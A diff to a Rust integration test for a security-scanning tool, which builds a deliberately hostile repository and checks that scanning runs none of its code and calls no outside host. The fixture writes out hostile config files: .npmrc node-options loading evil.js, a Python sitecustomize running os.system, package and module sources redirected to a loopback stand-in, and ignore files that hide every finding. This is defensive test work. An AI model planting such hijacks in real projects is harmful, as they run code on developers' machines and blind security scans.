@@ -4,10 +4,10 @@
 
 mod external_support;
 
-use external_support::{FILES, Fakes, PYTHON, TOOLS, is_read, line, request, run, write};
+use external_support::{FILES, Fakes, PYTHON, StandIn, TOOLS, again, is_again, is_read, line, real_tools, request, run, write};
 use securescan_core::model::ScannerStatus;
 use securescan_core::scanners::ScanRequest;
-use std::path::{Path, PathBuf};
+use std::path::Path;
 use std::process::Command;
 
 /// Everything a tool may find in its environment.
@@ -56,6 +56,7 @@ const ALLOWED: &[&str] = &[
     "MISE_DATA_DIR",
     "PYTHONUSERBASE",
     "PYTHONUTF8",
+    "PYTHONHASHSEED",
     "SEMGREP_ENABLE_VERSION_CHECK",
     "npm_config_registry",
     // The shell's own.
@@ -113,13 +114,20 @@ fn names_of_targets_are_data() {
     assert!(!Path::new("canary").exists() && !parent.path().join("canary").exists());
 }
 
-/// A repository in which every file that changes a tool tries to run something or to hide everything.
-fn hostile(root: &Path, canary: &Path) {
+/// A repository in which every file that changes a tool tries to run something, to hide everything, or to call a service on
+/// loopback.
+fn hostile(root: &Path, canary: &Path, port: &str) {
     write(root, FILES);
     let touch = format!("touch '{}'", canary.display());
     let python = format!("import os\nos.system({touch:?})\n");
     let script = format!("#!/bin/sh\n{touch}\n");
     let checks = root.join("checks").display().to_string();
+    let out = format!("http://127.0.0.1:{port}");
+    let npmrc = format!("registry={out}/${{HOME}}/\nnode-options=--require ./evil.js\nscript-shell=./evil\n");
+    let module = format!("module \"m\" {{\n  source = \"{out}/module.zip\"\n}}\n");
+    let lock = FILES.iter().find(|(path, _)| *path == "web/package-lock.json").map(|(_, text)| *text).unwrap();
+    let lock = lock.replace("\"4.17.4\"}}}", &format!("\"4.17.4\", \"resolved\": \"{out}/lodash.tgz\"}}}}}}"));
+    assert!(lock.contains(&out));
     write(
         root,
         &[
@@ -130,15 +138,27 @@ fn hostile(root: &Path, canary: &Path) {
             ("checks/check.py", &python),
             ("sitecustomize.py", &python),
             ("usercustomize.py", &python),
-            (".npmrc", "registry=http://127.0.0.1:9/${HOME}/\nnode-options=--require ./evil.js\nscript-shell=./evil\n"),
-            ("web/.npmrc", "registry=http://127.0.0.1:9/${HOME}/\nnode-options=--require ./evil.js\n"),
+            (".npmrc", &npmrc),
+            ("web/.npmrc", &npmrc),
+            ("web/package-lock.json", &lock),
+            ("infra/module.tf", &module),
+            ("app/requirements.txt", &format!("--index-url {out}/simple\n--extra-index-url {out}/more\nflask==0.12.2\n")),
+            ("pip.conf", &format!("[global]\nindex-url = {out}/simple\n")),
+            (".semgrep/settings.yml", &format!("semgrep_url: {out}\n")),
+            (".semgrep.yml", &format!("rules:\n- {out}/rules.yml\n")),
             ("web/evil.js", &format!("require('child_process').execSync({touch:?})\n")),
             ("web/evil", &script),
             ("web/node_modules/.bin/npm", &script),
             ("node_modules/.bin/semgrep", &script),
             (".bandit", "[bandit]\nskips = B101,B102,B602,B404\nexclude = /\n"),
             (".semgrepignore", "# nothing\n"),
-            ("trivy.yaml", "scan:\n  skip-files: ['**']\nmodule:\n  dir: ./checks\n"),
+            (
+                "trivy.yaml",
+                &format!(
+                    "scan:\n  skip-files: ['**']\nmodule:\n  dir: ./checks\nserver:\n  addr: {out}\n\
+                     db:\n  repository: 127.0.0.1:{port}/db\n  insecure: true\n"
+                ),
+            ),
             (".trivyignore", "CVE-2019-10744\n"),
             (".safety-policy.yml", "security:\n  ignore-vulnerabilities: {}\n"),
             (".gitleaks.toml", "[allowlist]\npaths = ['.*']\n"),
@@ -165,15 +185,6 @@ fn hostile(root: &Path, canary: &Path) {
     }
 }
 
-/// Where real tools are: the folder named by `SECURESCAN_TEST_TOOLS`.
-fn real() -> Option<PathBuf> {
-    let folder = std::env::var_os("SECURESCAN_TEST_TOOLS").map(PathBuf::from).filter(|folder| folder.is_dir());
-    if folder.is_none() {
-        eprintln!("skipped: SECURESCAN_TEST_TOOLS names no folder of real tools");
-    }
-    folder
-}
-
 fn with_real(request: &mut ScanRequest, tools: &Path) -> Vec<&'static str> {
     let mut installed = Vec::new();
     for (name, program) in [
@@ -197,19 +208,36 @@ fn with_real(request: &mut ScanRequest, tools: &Path) -> Vec<&'static str> {
 }
 
 #[test]
-fn a_hostile_repository_runs_nothing() {
-    let Some(tools) = real() else { return };
+fn a_hostile_repository_runs_nothing_and_calls_nobody() {
+    let Some(tools) = real_tools() else { return };
+    if is_again() {
+        return scan_hostile(&tools);
+    }
+    // What npm asks is its own registry; whatever the repository names must not hear of us.
+    let registry = StandIn::new(|path, _| path.ends_with("/advisories/bulk").then(|| "{}".to_owned()));
+    let silent = StandIn::new(|_, _| None);
+    let (url, port, home) = (registry.url(), silent.port.to_string(), tempfile::tempdir().unwrap());
+    let env: [(&str, &std::ffi::OsStr); 3] =
+        [("npm_config_registry", url.as_ref()), ("SECURESCAN_TEST_SILENT", port.as_ref()), ("HOME", home.path().as_ref())];
+    again("a_hostile_repository_runs_nothing_and_calls_nobody", home.path(), &env);
+    assert_eq!(silent.asked(), 0, "something of the repository made a tool call out");
+}
+
+fn scan_hostile(tools: &Path) {
     let (dir, canary) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
     let root = dir.path().join("repo");
-    hostile(&root, &canary.path().join("canary"));
+    hostile(&root, &canary.path().join("canary"), &std::env::var("SECURESCAN_TEST_SILENT").unwrap());
     let mut request = ScanRequest::new(&root);
     request.semgrep_rules = vec![root.join("rules/r.yaml")];
-    let installed = with_real(&mut request, &tools);
+    let installed = with_real(&mut request, tools);
     let raw = run(&request);
     for row in raw.coverage.iter().filter(|row| !row.reason.iter().all(String::is_empty)) {
         eprintln!("{} {:?} {} {}", row.name, row.status, row.findings_count, row.reason.as_deref().unwrap_or_default());
     }
     assert_eq!(std::fs::read_dir(canary.path()).unwrap().count(), 0, "something of the repository was executed");
+    if installed.contains(&"npm-audit") {
+        assert_eq!(line(&raw, "npm-audit").status, ScannerStatus::Ok, "{:?}", line(&raw, "npm-audit"));
+    }
     // What the repository says to leave out is found all the same.
     for (name, path) in [("semgrep", "app/a.py"), ("bandit", "app/a.py"), ("checkov", "infra/main.tf")] {
         if installed.contains(&name) && is_read(name) {
@@ -219,18 +247,9 @@ fn a_hostile_repository_runs_nothing() {
     }
 }
 
-/// Runs the test of this name again as a process of its own, whose environment and working folder can be chosen.
-fn again(test: &str, cwd: &Path, env: &[(&str, &std::ffi::OsStr)]) -> String {
-    let mut command = Command::new(std::env::current_exe().unwrap());
-    command.args(["--exact", test, "--nocapture"]).current_dir(cwd).env("SECURESCAN_TEST_AGAIN", "1").envs(env.iter().copied());
-    let output = command.output().unwrap();
-    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
-    String::from_utf8(output.stdout).unwrap()
-}
-
 /// In the process started by [`again`]: scans the working folder with bandit, wherever that is, and says how it went.
 fn report_of_bandit() -> bool {
-    if std::env::var_os("SECURESCAN_TEST_AGAIN").is_none() {
+    if !is_again() {
         return false;
     }
     let mut request = ScanRequest::new(".");
